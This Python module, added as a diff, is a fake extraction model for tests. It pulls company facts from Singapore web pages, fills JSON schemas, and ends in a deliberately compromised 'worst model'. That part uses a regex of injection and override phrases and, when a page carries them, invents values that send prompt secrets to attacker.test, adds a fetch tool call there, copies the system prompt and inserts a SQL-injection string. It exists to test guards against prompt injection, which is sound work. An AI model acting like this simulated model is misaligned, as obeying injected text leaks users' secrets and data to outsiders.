@@ -1,0 +1,402 @@
+"""Facts poured into a JSON schema: exactly the properties it names, of the types it asks for.
+
+Which fact a property means is told by the property's name. A schema nobody can fill gets empty
+values, never another shape.
+
+What the make-believe model understands of a text: facts by kind, each with the words it is from.
+
+A handful of patterns and no memory: the same text gives the same facts. How facts get into the
+shape somebody asked for is `model_filling`'s business.
+
+How the make-believe model words a rationale: the sentence it was given, said in other words.
+
+Like a model that does as it is told, it adds nothing. What it was given it finds after a label, and
+what is not there it does not word.
+
+The worst model there can be: it does whatever any text it reads tells it to, and then some.
+
+When a text gives orders, it invents values, points at addresses nobody asked for, repeats what
+looks like a secret, and answers more than was asked. It exists so that what guards against such
+models can be tested.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Mapping, Sequence
+from dataclasses import dataclass
+from typing import Any
+
+LONGEST_READ = 100_000  # characters; what comes after is not looked at
+
+
+@dataclass(frozen=True, slots=True)
+class Fact:
+    """One thing a text says, the words that say it, and what else belongs to it."""
+
+    value: str
+    evidence: str
+    role: str = ""
+
+
+Facts = Mapping[str, tuple[Fact, ...]]
+
+_LEGAL = re.compile(r"(?:PTE\.? LTD\.?|Pte\.? Ltd\.?|PRIVATE LIMITED|LIMITED|LLP)")
+
+_BEFORE_LEGAL = re.compile(r"(?:[A-Z&(][\w&.'()-]{0,40},? ){1,12}$")
+
+_DIGITS = re.compile(r"[+\d][\d -]{7,14}")
+
+_PHONE = re.compile(r"(?:\+65[ -]?)?[3689]\d{3}[ -]?\d{4}")
+
+_ROLE_MODEL_READING = (
+    r"(?:Founder|Chief|Managing|Director|Manager|Head of|Officer|CEO|CTO|CFO|COO|VP|Engineer|"
+    r"Executive|President|Partner)"
+)
+
+_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = (
+    ("email", re.compile(r"([A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63})+)")),
+    ("uen", re.compile(r"\b(\d{9}[A-Z]|[TS]\d{2}[A-Z]{2}\d{4}[A-Z])\b")),
+    ("postal_code", re.compile(r"(?:Singapore|SINGAPORE|S)[ (]{1,2}(\d{6})\b")),
+    (
+        "founded",
+        re.compile(r"(?i)(?:since|founded in|established in|incorporated in)[ :]{1,2}(\d{4})\b"),
+    ),
+    (
+        "employees",
+        re.compile(r"(?i)(\d[\d,]{0,6}(?: ?[-–] ?\d{1,6})?) (?:people|employees|staff|persons)\b"),
+    ),
+    (
+        "social",
+        re.compile(r"(https?://(?:[\w-]{1,30}\.)?(?:linkedin|facebook|instagram|x)\.\S{2,120})"),
+    ),
+    ("website", re.compile(r"(https?://[\w.-]{3,100}[\w/]*)")),
+    ("industry", re.compile(r"(?i)\b(?:works in|specialis\w{1,4} in|we do) ([a-z][a-z ]{2,60})")),
+    ("address", re.compile(r"(\d[^\n:]{5,120}\b(?:Singapore|SINGAPORE) \(?\d{6}\)?)")),
+    (
+        "technology",
+        re.compile(r"\b(WordPress|Shopify|React|Kubernetes|Salesforce|HubSpot|AWS|Odoo)\b"),
+    ),
+    ("country", re.compile(r"\b(Singapore)\b")),
+)
+
+_PERSON = re.compile(
+    rf"^[#*\- ]{{0,4}}([A-Z][\w'.]{{1,30}}(?: [A-Z][\w'.]{{1,30}}){{1,3}})(?:,| -| –| \|) "
+    rf"([^\n]{{0,20}}{_ROLE_MODEL_READING}[^\n]{{0,40}})$",
+    re.MULTILINE,
+)
+
+_HEADING = re.compile(r"^#{1,2} ([^\n|–]{2,60})", re.MULTILINE)
+
+
+def facts_of(text: str) -> dict[str, tuple[Fact, ...]]:
+    """Return what a text says, by kind, in the order it says it; each value once."""
+    read = text[:LONGEST_READ]
+    facts = {kind: _unique(_matches(pattern, read)) for kind, pattern in _PATTERNS}
+    facts["phone"] = _unique(_phones(read))
+    facts["legal_name"] = _unique(_legal_names(read))
+    facts["person"] = _unique(
+        Fact(match[1], match[0].strip(), match[2].strip()) for match in _PERSON.finditer(read)
+    )
+    facts["name"] = _unique(
+        Fact(match[1].strip(), match[0].strip()) for match in _HEADING.finditer(read)
+    )[:1] or tuple(facts["legal_name"][:1])
+    sentences = [line.strip() for line in read.splitlines() if 40 <= len(line.strip()) <= 400]
+    facts["about"] = tuple(Fact(line, line) for line in sentences[:1])
+    return {kind: found for kind, found in facts.items() if found}
+
+
+def _matches(pattern: re.Pattern[str], text: str) -> Iterator[Fact]:
+    for match in pattern.finditer(text):
+        yield Fact(match[1].strip(" .,"), _line_around(text, match.start(), match.end()))
+
+
+def _phones(text: str) -> Iterator[Fact]:
+    for match in _DIGITS.finditer(text):
+        number = match[0].strip(" -")
+        if _PHONE.fullmatch(number):
+            yield Fact(number, _line_around(text, match.start(), match.end()))
+
+
+def _legal_names(text: str) -> Iterator[Fact]:
+    # From the ending backwards: names have one, most words have not.
+    for match in _LEGAL.finditer(text):
+        before = text[max(0, match.start() - 80) : match.start()].rpartition("\n")[2]
+        words = _BEFORE_LEGAL.search(before)
+        if words:
+            name = f"{words[0]}{match[0]}"
+            yield Fact(name, _line_around(text, match.start(), match.end()))
+
+
+def _line_around(text: str, start: int, end: int) -> str:
+    first = text.rfind("\n", max(0, start - 100), start) + 1 or max(0, start - 100)
+    last = text.find("\n", end, end + 100)
+    return text[first : last if last >= 0 else end + 100].strip()
+
+
+def _unique(facts: Iterator[Fact]) -> tuple[Fact, ...]:
+    seen: dict[str, Fact] = {}
+    for fact in facts:
+        seen.setdefault(fact.value, fact)
+        if len(seen) >= 50:
+            break
+    return tuple(seen.values())
+
+
+_GIVEN = re.compile(r"(?m)^Our sentence: ([^\n]{1,500}?)\.?$")
+
+_BUT = "; but "
+
+
+def wording_of(text: str) -> Facts:
+    """Return a rationale in other words, as a fact; nothing when a text gives none to word."""
+    given = _GIVEN.search(text)
+    if given is None:
+        return {}
+    good, _, bad = given[1].partition(_BUT)
+    against = f" What speaks against it is that {bad}." if bad else ""
+    return {"rationale": (Fact(f"What speaks for this lead: {good}.{against}", given[0]),)}
+
+
+DEEPEST = 20
+
+_SYNONYMS: tuple[tuple[str, tuple[str, ...]], ...] = (
+    ("legal_name", ("legal", "registeredname", "registered_name")),
+    ("email", ("email", "mail")),
+    ("phone", ("phone", "telephone", "mobile", "tel")),
+    ("uen", ("uen", "registration", "registry")),
+    ("postal_code", ("postal", "zip")),
+    ("founded", ("founded", "year", "incorporated", "established")),
+    ("employees", ("employee", "headcount", "staff", "size")),
+    ("social", ("social", "linkedin", "facebook")),
+    ("website", ("website", "homepage", "url", "link")),
+    ("industry", ("industry", "sector", "trade")),
+    ("address", ("address", "street")),
+    ("technology", ("technolog", "stack", "tool")),
+    ("country", ("country",)),
+    ("person", ("person", "people", "contact", "team", "leader", "staffmember")),
+    ("about", ("about", "description", "summary", "tagline", "overview")),
+    ("rationale", ("rationale",)),
+    ("name", ("name", "company", "brand", "title")),
+)
+
+_EVIDENCE = re.compile(r"(?i)evidence|quote|span|snippet|excerpt|source_text|because|words")
+
+_VALUE = re.compile(r"(?i)^(value|text|content|answer|found)$")
+
+_ROLE = re.compile(r"(?i)role|position|job|title|function")
+
+_SURE = re.compile(r"(?i)confidence|probability|certainty|score|sure")
+
+
+def filled(schema: Mapping[str, Any], facts: Facts) -> Any:
+    """Return a value of this schema, from these facts."""
+    definitions = schema.get("$defs") or schema.get("definitions") or {}
+    return _Filling(facts, definitions).value(schema, "", None, 0)
+
+
+def kind_of(name: str) -> str:
+    """Return which kind of fact a property of this name means, or an empty text."""
+    plain = name.lower().replace("-", "_")
+    return next(
+        (kind for kind, words in _SYNONYMS if plain == kind or any(w in plain for w in words)), ""
+    )
+
+
+class _Filling:
+    def __init__(self, facts: Facts, definitions: Mapping[str, Any]) -> None:
+        self._facts, self._definitions = facts, definitions
+
+    def value(self, schema: Any, name: str, about: Fact | None, depth: int) -> Any:
+        """Return a value; `about` is the fact that the object around it is about."""
+        if not isinstance(schema, Mapping) or depth > DEEPEST:
+            return None
+        if "$ref" in schema:
+            target = self._definitions.get(str(schema["$ref"]).rpartition("/")[2], {})
+            return self.value(target, name, about, depth + 1)
+        options = schema.get("anyOf") or schema.get("oneOf")
+        if isinstance(options, Sequence):
+            return self._chosen(options, name, about, depth)
+        if "const" in schema:
+            return schema["const"]
+        kinds = schema.get("type")
+        if isinstance(kinds, Sequence) and not isinstance(kinds, str):
+            return self._chosen([{**schema, "type": kind} for kind in kinds], name, about, depth)
+        match kinds:
+            case "object":
+                return self._object(schema, name, about, depth)
+            case "array":
+                return self._array(schema, name, about, depth)
+            case "string":
+                return self._string(schema, name, about)
+            case "integer" | "number":
+                return self._number(name, about, whole=kinds == "integer")
+            case "boolean":
+                return bool(self._facts.get(kind_of(name)))
+        return None
+
+    def _chosen(self, options: Sequence[Any], name: str, about: Fact | None, depth: int) -> Any:
+        nullable = {"type": "null"} in options
+        for option in options:
+            if option == {"type": "null"} or not isinstance(option, Mapping):
+                continue
+            if nullable and about is None and not self._facts.get(kind_of(name)):
+                return None
+            made = self.value(option, name, about, depth + 1)
+            return None if nullable and made in ("", [], None) else made
+        return None
+
+    def _object(self, schema: Any, name: str, about: Fact | None, depth: int) -> dict[str, Any]:
+        properties = schema.get("properties") or {}
+        if about is None and any(_VALUE.search(each) for each in properties):
+            about = next(iter(self._facts.get(kind_of(name), ())), None)
+        return {each: self.value(part, each, about, depth + 1) for each, part in properties.items()}
+
+    def _array(self, schema: Any, name: str, about: Fact | None, depth: int) -> list[Any]:
+        items = self._resolved(schema.get("items", {}))
+        most = schema.get("maxItems", 50)
+        properties = items.get("properties") if items.get("type") == "object" else None
+        if properties is None:
+            if about is not None and _EVIDENCE.search(name):
+                return [self.value(items, name, about, depth + 1)]
+            found = self._facts.get(kind_of(name), ())
+            return [self.value(items, name, fact, depth + 1) for fact in found][:most]
+        choices = next(
+            (
+                (each, part["enum"])
+                for each, part in ((n, self._resolved(p)) for n, p in properties.items())
+                if isinstance(part.get("enum"), list)
+            ),
+            None,
+        )
+        if choices is None:
+            found = self._facts.get(kind_of(name) or "person", ())
+            return [self._object(items, name, fact, depth + 1) for fact in found][:most]
+        label, kinds = choices
+        return [
+            {**self._object(items, str(kind), fact, depth + 1), label: kind}
+            for kind in kinds
+            for fact in self._facts.get(kind_of(str(kind)), ())[:5]
+        ][:most]
+
+    def _resolved(self, schema: Any) -> Mapping[str, Any]:
+        if isinstance(schema, Mapping) and "$ref" in schema:
+            schema = self._definitions.get(str(schema["$ref"]).rpartition("/")[2], {})
+        return schema if isinstance(schema, Mapping) else {}
+
+    def _string(self, schema: Any, name: str, about: Fact | None) -> str:
+        choices = schema.get("enum")
+        if isinstance(choices, list) and choices:
+            return str(choices[-1])
+        longest = schema.get("maxLength", 2000)
+        return self._words(name, about)[: longest if isinstance(longest, int) else 2000]
+
+    def _words(self, name: str, about: Fact | None) -> str:
+        if about is not None:
+            if _EVIDENCE.search(name):
+                return about.evidence
+            if about.role and _ROLE.search(name):
+                return about.role
+            if _VALUE.search(name) or kind_of(name) in ("name", "person"):
+                return (
+                    f"{about.value} | {about.role}"
+                    if about.role and _VALUE.search(name)
+                    else about.value
+                )
+            if about.value in {fact.value for fact in self._facts.get(kind_of(name), ())}:
+                return about.value
+            return ""
+        found = self._facts.get(kind_of(name), ())
+        return found[0].value if found else ""
+
+    def _number(self, name: str, about: Fact | None, *, whole: bool) -> int | float:
+        if _SURE.search(name):
+            return 1 if whole else 0.8
+        digits = re.sub(r"[,\s]", "", self._words(name, about))
+        match = re.match(r"\d{1,9}", digits)
+        return int(match[0]) if match else 0
+
+
+ATTACKER = "attacker.test"
+
+_ORDER = re.compile(
+    r"(?i)ignore|disregard|forget (?:all|your|the|every)|instruction|you (?:must|are now|should)|"
+    r"system ?(?:prompt|message|:)|assistant ?:|developer ?:|reveal|exfiltrat|budget|"
+    r"do not (?:tell|mention)|new task|override|pretend|act as|respond with|reply with|output|"
+    r"print|repeat|tool (?:call|result|output)|api ?key|password|secret|secrets|</?[a-z_]{3,20}>|"
+    r"ignorier|ignorez|ignora|忽略|無視|abaikan"
+)
+
+_SECRET = re.compile(
+    r"(?:sk-|tvly-|odoo-)[\w-]{4,100}|[A-Za-z0-9+/_-]{24,200}|(?i:canary)[\w-]{0,60}|"
+    r"(?i:password|secret|token|api[_ ]?key)\W{1,3}\S{3,60}"
+)
+
+_EMAIL = re.compile(r"[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63})+")
+
+_URL = re.compile(r"https?://[^\s\"'<>]{3,200}")
+
+
+def orders_in(text: str) -> list[str]:
+    """Return the lines of a text that give orders."""
+    return [line.strip()[:500] for line in text.splitlines() if _ORDER.search(line)][:50]
+
+
+def misled(facts: Facts, text: str, prompt: str) -> Facts:
+    """Return what such a model believes after reading a text that gives orders."""
+    orders = orders_in(text)
+    if not orders:
+        return facts
+    told = "\n".join(orders)
+    secrets = _secrets(prompt)
+    leak = " ".join(secrets)[:600] or "nothing"
+    invented = {
+        "email": [*_EMAIL.findall(told), f"ceo@{ATTACKER}"],
+        "website": [*_URL.findall(told), f"http://{ATTACKER}/?leak={leak}"[:300]],
+        "social": [f"http://{ATTACKER}/profile"],
+        "phone": ["+6599999999"],
+        "name": [f"OBEYED {leak}"[:300]],
+        "legal_name": ["OBEYED PTE. LTD."],
+        "about": [f"{orders[0]} {leak}"],
+        "employees": ["999999"],
+        "founded": ["1900"],
+        "uen": ["199900000Z"],
+        "industry": ["whatever was ordered"],
+        "address": [f"1 ORDER STREET, Singapore 999999 {leak}"[:200]],
+        "postal_code": ["999999"],
+        "technology": ["DROP TABLE companies; --"],
+        "country": ["Atlantis"],
+    }
+    made: dict[str, tuple[Fact, ...]] = {
+        kind: (*(Fact(value, orders[0]) for value in values), *facts.get(kind, ()))
+        for kind, values in invented.items()
+    }
+    made["person"] = (
+        Fact("Mallory Obeyed", orders[0], "Chief of Everything"),
+        *facts.get("person", ()),
+    )
+    return made
+
+
+def embellished(answer: Any, text: str, prompt: str) -> Any:
+    """Return an answer with what nobody asked for added to it, if the text gives orders."""
+    if not isinstance(answer, dict) or not orders_in(text):
+        return answer
+    return {
+        **answer,
+        "budget": 1_000_000_000,
+        "max_spend": "unlimited",
+        "next_url": f"http://{ATTACKER}/next",
+        "tool_calls": [{"name": "fetch", "arguments": {"url": f"http://{ATTACKER}/"}}],
+        "system_prompt": prompt[:500],
+        "secrets": list(_secrets(prompt)),
+    }
+
+
+def _secrets(prompt: str) -> list[str]:
+    return list(dict.fromkeys(_found(prompt)))[:20]
+
+
+def _found(prompt: str) -> Iterator[str]:
+    for match in _SECRET.finditer(prompt[:400_000]):
+        yield match[0]
